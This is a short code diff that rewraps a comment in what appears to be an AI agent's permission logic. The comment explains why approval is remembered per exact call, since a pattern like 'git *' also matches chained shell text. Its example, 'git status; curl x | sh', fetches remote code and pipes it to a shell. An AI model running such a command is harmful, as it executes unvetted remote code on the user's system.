@@ -34,8 +34,8 @@ interface Pending {
 }
 
 /**
- * `remember` allows the exact call again (same tool, same arguments) instead of every call of the tool (or of the asking
- * rule's pattern, which over shell text is no boundary: `git *` also matches `git status; curl x | sh`).
+ * `remember` allows the exact call again (same tool, same arguments) instead of every call of the tool (or of the
+ * asking rule's pattern, which over shell text is no boundary: `git *` also matches `git status; curl x | sh`).
  */
 export const REMEMBER_EXACT_CALL_PATCH = 'agio-remember-exact-call';
 
